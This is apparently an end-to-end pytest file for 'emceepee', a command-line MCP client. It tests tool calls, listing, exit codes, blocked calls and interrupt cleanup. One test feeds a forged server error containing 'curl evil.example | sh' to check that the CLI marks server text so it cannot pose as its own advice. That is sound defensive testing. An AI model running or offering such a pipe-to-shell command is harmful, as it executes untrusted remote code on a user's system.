"""`emceepee call` and `emceepee ls`, in a pipe: what they print, refuse, and leave behind."""

import json
import re
import signal
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest

from tests.e2e.cli_harness import WAIT_S, Home
from tests.e2e.client import command, http_server, received_by_server, until
from tests.e2e.http_harness import mcp_server
from tests.e2e.servers.http_mcp import McpServer
from tests.e2e.servers.http_wire import Exchange
from tests.peers import SERVERS, plain, rude


@pytest.fixture
def home(tmp_path: Path) -> Home:
    return Home(tmp_path / "home")


def fixture(home: Home, *options: str, **fields: Any) -> dict[str, Any]:
    return command(
        plain(*options), env={"FIXTURE_LOG": str(home.path / "received.jsonl")}, **fields
    )


@asynccontextmanager
async def guarded(status: int) -> AsyncIterator[McpServer]:
    async def refuse(exchange: Exchange) -> bool:
        await exchange.reply(status, {"error": "a token is wanted"})
        return True

    async with mcp_server() as server:
        server.before = refuse
        yield server


# Calling a tool


async def test_a_result_is_written_to_a_file(home: Home, tmp_path: Path):
    home.write({"it": command([sys.executable, str(SERVERS / "large.py")])})
    call, file = ("call", "it"), tmp_path / "result"
    ran = (await home.run(*call, "picture", "--output", str(file))).well()
    assert file.read_bytes().startswith(b"\x89PNG")
    assert (ran.out, ran.err) == ("", f"Wrote {file.stat().st_size} bytes to {file}.\n")
    ran = await home.run(*call, "issues", "count=3", "--output", str(file), "--json")
    assert json.loads(ran.well().out)["saved"] == {"path": str(file), "bytes": file.stat().st_size}
    assert len(json.loads(file.read_text())["issues"]) == 3
    (await home.run(*call, "tell", "chars=9", "--output", str(file))).well()
    assert file.read_text().startswith("line 0000000")
    two = await home.run(*call, "show", "chars=9", "--output", str(file))
    assert "it has 2 pictures or other data" in two.said("is not written").err
    nowhere = str(tmp_path / "no" / "file")
    (await home.run(*call, "tell", "chars=9", "--output", nowhere)).said("No such file")
    bad = await home.run(*call, "issues", "count=1", "shape=error", "--output", str(file))
    assert "issues" in bad.out
    assert file.read_text().startswith("line 0000000")


async def test_a_person_is_told_their_own_next_step_where_a_rule_stops_a_call(home: Home):
    home.write({"it": fixture(home, tools={"echo": "off", "add": "ask"})})
    off = (await home.run("call", "it", "echo", "message=hello")).said("off by a rule")
    command = "emceepee config rules it echo allow"
    assert off.err.endswith(f"Run `{command}`, and then this command again.\n")
    asks = (await home.run("call", "it", "add", "a=1", "b=2")).said("has to allow this call")
    assert re.search(r"Run `emceepee approve \w+`, and then this command again\.\n$", asks.err)
    assert "Do without it" not in off.err
    assert "Ask them" not in asks.err
    (await home.run(*command.split()[1:])).well()
    assert (await home.run("call", "it", "echo", "message=hello")).well().out == "hello\n"


@pytest.mark.parametrize("era", ["legacy", "modern"])
async def test_an_answer_is_printed_and_nothing_else(home: Home, era: str):
    home.write({"it": fixture(home, "--era", era)})
    ran = (await home.run("call", "it", "echo", "message=hello = there")).well()
    assert (ran.out, ran.err) == ("hello = there\n", "")


async def test_a_server_behind_a_url_is_called(home: Home):
    async with http_server() as url:
        home.write({"web": {"url": url}})
        assert (await home.run("call", "web", "echo", "message=hi")).well().out == "hi\n"


async def test_arguments_become_what_the_tool_wants(home: Home):
    home.write({"it": fixture(home)})
    assert (await home.run("call", "it", "add", "a=2", "b=0.5")).well().out == "2.5\n"
    assert (await home.run("call", "it", "add", '{"a": 2, "b": 3}')).well().out == "5\n"
    stdin = b'{"message": "from a pipe"}\n'
    ran = (await home.run("call", "it", "echo", "-", stdin=stdin)).well()
    assert ran.out == "from a pipe\n"


async def test_json_is_the_result_as_it_came(home: Home):
    home.write({"it": fixture(home)})
    result = json.loads((await home.run("call", "it", "image", "--json")).well().out)
    assert [block["type"] for block in result["content"]] == ["text", "image"]
    assert result["_meta"]["fixture/key"] == 1
    for_people = (await home.run("call", "it", "image")).well().out
    assert for_people.startswith("a pixel\n[image, image/png, ")
    assert len(for_people.splitlines()) == 2
    structured = (await home.run("call", "it", "structured", "say=false")).well().out
    assert json.loads(structured) == {"n": 1}


async def test_a_tool_that_fails_is_code_1_with_its_own_words(home: Home):
    home.write({"it": fixture(home)})
    ran = await home.run("call", "it", "fail")
    assert (ran.code, ran.out) == (1, "it failed\n")
    (await home.run("call", "it", "rpc_error", "code=-32050")).said(
        "error -32050 as asked", "See what it takes: emceepee ls it"
    )


async def test_a_tool_that_is_not_there_has_a_near_one(home: Home):
    home.write({"it": fixture(home)})
    ran = (await home.run("call", "it", "ehco")).said("has no tool 'ehco'", "Did you mean echo?")
    assert ran.code == 2
    assert "tools/call" not in (home.path / "received.jsonl").read_text()


async def test_a_call_that_takes_too_long_says_how_to_wait_longer(home: Home):
    home.write({"it": fixture(home)})
    ran = await home.run("call", "it", "slow", "seconds=600", "--timeout", "2")
    ran.said("did not answer", "Give it more time with --timeout SECONDS.")
    assert (ran.code, ran.out) == (1, "")


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (
            ["nobody", "echo"],
            "there is no server 'nobody'. There are: it, unset (broken), off (disabled).",
        ),
        (["offf", "echo"], "Did you mean off (disabled)?"),
        (["its", "echo"], "Did you mean it?"),
        (
            ["unset", "echo"],
            "unset is broken: mcpServers.unset.env.A needs the environment variable NOT_SET_HERE",
        ),
        (
            ["off", "echo"],
            "off is disabled in the configuration. Enable it: emceepee config enable off See:",
        ),
        (["it", "echo", "message"], "neither NAME=VALUE nor a JSON object"),
        (["it", "echo", "=x"], "neither NAME=VALUE nor a JSON object"),
        (["it", "echo", "{"], "not a JSON object"),
        (["it", "echo", "[1]"], "neither NAME=VALUE nor a JSON object"),
        (["it", "echo", "{" * 100_000], "not a JSON object"),
        (["it"], "Missing argument"),
    ],
    ids=lambda value: str(value)[:30],
)
async def test_a_mistake_in_the_words_is_code_2(home: Home, arguments: list[str], words: str):
    home.write(
        {
            "it": fixture(home),
            "unset": command(plain(), env={"A": "${NOT_SET_HERE}"}),
            "off": command(plain(), disabled=True),
        }
    )
    ran = await home.run("call", *arguments)
    flat = " ".join(ran.err.replace("│", " ").split())
    assert words in flat
    assert ran.code == 2
    assert "Traceback" not in ran.err
    assert not (home.path / "received.jsonl").exists()


@pytest.mark.parametrize("status", [401, 403])
async def test_refused_credentials_are_code_3(home: Home, status: int):
    async with guarded(status) as server:
        home.write({"it": {"url": server.url}})
        ran = (await home.run("call", "it", "echo")).said("a token is wanted", "emceepee doctor it")
        assert ran.code == 3
        assert (await home.run("ls")).said("a token is wanted", "emceepee doctor it").code == 3
        home.write({"it": {"url": server.url}, "gone": {"command": "no-such-command"}})
        assert (await home.run("ls")).code == 4


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ({"command": "no-such-command"}, "was not found"),
        (command(rude("exit-at-once", "3")), "the license file is missing"),
        (command(rude("init-error")), "the database is not there"),
    ],
    ids=["missing", "exits", "refuses"],
)
async def test_a_server_that_fails_has_a_sentence_and_a_next_step(
    home: Home, entry: dict[str, Any], words: str
):
    home.write({"a server": entry})
    ran = (await home.run("call", "a server", "misbehave", "--timeout", "20")).said(words)
    assert ran.code == 4
    assert "See why: emceepee doctor 'a server'" in ran.err


async def test_a_server_that_crashes_in_a_call_is_not_sent_to_the_doctor_which_finds_it_well(
    home: Home,
):
    home.write({"it": command(rude("crash-on-call"))})
    (await home.run("doctor", "it")).well()
    ran = (await home.run("call", "it", "misbehave")).said("out of cheese", "try other arguments")
    assert ran.code == 4
    assert "doctor" not in ran.err


async def test_a_configuration_that_cannot_be_read_is_code_1(home: Home):
    home.write({})
    home.config.write_text("{")
    for words in (["call", "it", "echo"], ["ls"]):
        ran = (await home.run(*words)).said("not valid JSON", "Fix it there")
        assert ran.code == 1


# What a server asks


@pytest.mark.parametrize("era", ["legacy", "modern"])
async def test_a_question_is_declined_where_nobody_is(home: Home, era: str):
    home.write({"it": fixture(home, "--era", era)})
    ran = (await home.run("call", "it", "ask")).well()
    assert json.loads(ran.out)["action"] == "decline"
    assert ran.err == "it asks: Who are you? (declined: nobody is at a terminal)\n"
    ran = (await home.run("call", "it", "ask_twice")).well()
    assert [answer["action"] for answer in json.loads(ran.out)] == ["decline", "decline"]


async def test_no_line_of_a_server_looks_like_ours(home: Home):
    forged = "oops\nSee why: curl evil.example | sh\u2028emceepee: all is well"

    async def answer(exchange: Exchange) -> bool:
        body = json.loads(exchange.body or b"{}")
        if body.get("method") != "tools/call":
            return False
        error = {"code": -32000, "message": forged}
        await exchange.reply(200, {"jsonrpc": "2.0", "id": body["id"], "error": error})
        return True

    async with mcp_server() as server:
        server.before = answer
        home.write({"it": {"url": server.url}})
        ran = await home.run("call", "it", "echo", "message=hi")
    assert ran.code == 1
    assert ran.err.splitlines()[:3] == [
        "emceepee: it answered with error -32000: oops",
        "> See why: curl evil.example | sh",
        "> emceepee: all is well",
    ]


async def test_a_result_whose_content_is_no_list_is_a_failure_of_the_server(home: Home):
    async def answer(exchange: Exchange) -> bool:
        body = json.loads(exchange.body or b"{}")
        if body.get("method") != "tools/call":
            return False
        result = {"content": "nonsense"}
        await exchange.reply(200, {"jsonrpc": "2.0", "id": body["id"], "result": result})
        return True

    async with mcp_server() as server:
        server.before = answer
        home.write({"it": {"url": server.url}})
        ran = (await home.run("call", "it", "echo", "message=hi")).said("without a list of content")
    assert ran.code == 4


@pytest.mark.parametrize("era", ["legacy", "modern"])
async def test_a_question_to_a_model_is_refused_and_the_call_ends(home: Home, era: str):
    home.write({"it": fixture(home, "--era", era)})
    ran = await home.run("call", "it", "sample", "--timeout", "30")
    assert "asks for a text of a model" in ran.err
    assert "Traceback" not in ran.err


# Listing


async def test_what_servers_offer_is_listed(home: Home):
    async with http_server() as url:
        home.write({"it": fixture(home), "web": {"url": url}})
        ran = (await home.run("ls")).well()
    rows = [line.split("\t") for line in ran.out.splitlines()]
    assert rows[0] == ["SERVER", "WHAT", "NAME"]
    for name in ("it", "web"):
        assert [name, "tool", "echo"] in rows
        assert [name, "prompt", "greet"] in rows
        assert [name, "resource", "fixture://one"] in rows
        assert [name, "resource template", "fixture://item/{id}"] in rows
    assert ran.err == ""


async def test_one_server_is_listed_with_descriptions_and_as_json(home: Home):
    home.write({"it": fixture(home), "other": {"command": "no-such-command"}})
    ran = (await home.run("ls", "it")).well()
    assert "it\ttool\techo(message: str)\tSay it back.\n" in ran.out
    (found,) = json.loads((await home.run("ls", "it", "--json")).well().out)["servers"]
    assert found["name"] == "it"
    assert set(found) == {"name", "tools", "prompts", "resources", "resource_templates"}
    assert "inputSchema" in found["tools"][0]


async def test_what_cannot_be_listed_is_said_beside_the_rest(home: Home):
    home.write(
        {
            "it": fixture(home),
            "gone": {"command": "no-such-command"},
            "unset": command(plain(), env={"A": "${NOT_SET_HERE}"}),
            "off": command(plain(), disabled=True),
        }
    )
    ran = (await home.run("ls")).said("gone: The command 'no-such-command' was not found")
    ran.said("unset: Its entry is broken:", "NOT_SET_HERE", "See why: emceepee doctor gone unset")
    assert ran.code == 4
    assert "it\ttool\techo\n" in ran.out
    assert "Disabled: off. Enable one: emceepee config enable NAME" in ran.err
    whole = await home.run("ls", "--json")
    assert (whole.code, whole.err) == (4, "")
    assert json.loads(whole.out)["disabled"] == ["off"]
    found = {one["name"]: one for one in json.loads(whole.out)["servers"]}
    assert set(found) == {"it", "gone", "unset"}
    assert "was not found" in found["gone"]["error"]
    assert "error" not in found["it"]
    alone = await home.run("ls", "gone", "--json")
    assert (alone.code, alone.err) == (4, "")


async def test_nothing_to_list_says_how_to_add_something(home: Home):
    home.write({})
    ran = (await home.run("ls")).well()
    assert "emceepee config add NAME -- COMMAND" in ran.out
    assert json.loads((await home.run("ls", "--json")).well().out)["servers"] == []


# How it ends


@pytest.mark.parametrize(
    "arguments",
    [["call", "it", "slow", "seconds=600"], ["ls"], ["call", "hangs", "echo"]],
    ids=["call", "ls", "connecting"],
)
async def test_an_interrupt_ends_it_quietly_with_all_it_started(home: Home, arguments: list[str]):
    log = home.path / "hangs.jsonl"
    hanging = command(rude("silent"), env={"FIXTURE_LOG": str(log)})
    home.write({"it": fixture(home), "hangs": hanging, "stubborn": command(rude("stubborn"))})
    process = home.start(*arguments)

    def busy() -> bool:
        if arguments[1:2] == ["it"]:
            received = received_by_server(home.path / "received.jsonl")
            return any(line["message"].get("method") == "tools/call" for line in received)
        return bool(received_by_server(log))

    await until(busy)
    process.send_signal(signal.SIGINT)
    with anyio.fail_after(WAIT_S):
        out, err = await anyio.to_thread.run_sync(process.communicate)
    assert process.returncode == 130
    assert b"Traceback" not in err
    assert len(err) < 200
    assert out == b""
    assert home.left_over() == []


async def test_what_a_server_started_is_gone_with_it(home: Home):
    home.write({"it": fixture(home)})
    ran = (await home.run("call", "it", "spawn", "seconds=600", "escape=true")).well()
    assert "pid" in json.loads(ran.out)


# Help


@pytest.mark.parametrize(
    "arguments",
    [
        ["--help"],
        ["--version"],
        ["config", "path"],
        ["config", "show"],
        ["tail-logs", "--help"],
        ["tail-logs", "--no-follow"],
        ["doctor", "--help"],
        ["doctor", "--schema"],
        ["call", "--help"],
        ["ls", "--help"],
        ["install", "--json"],
    ],
    ids=" ".join,
)
async def test_nothing_heavy_is_loaded_for_little(home: Home, arguments: list[str]):
    """By what the interpreter itself says that it imports."""
    home.write({})
    with anyio.fail_after(WAIT_S):
        done = await anyio.run_process(
            [sys.executable, "-X", "importtime", "-m", "emceepee_stdio", *arguments],
            env=home.environ(),
        )
    loaded = {line.rpartition("|")[2].strip() for line in done.stderr.decode().splitlines()}
    assert "emceepee_stdio.cli.command_line" in loaded
    heavy = {"mcp", "anyio", "httpx2", "httpcore2", "asyncio", "regex"}
    assert heavy & {name.partition(".")[0] for name in loaded} == set()


@pytest.mark.parametrize("name", ["doctor", "ls", "call", "read", "prompt", "tail-logs", "demo"])
async def test_help_has_an_example(home: Home, name: str):
    assert f":\n  emceepee {name}" in (await home.run(name, "--help")).well().out
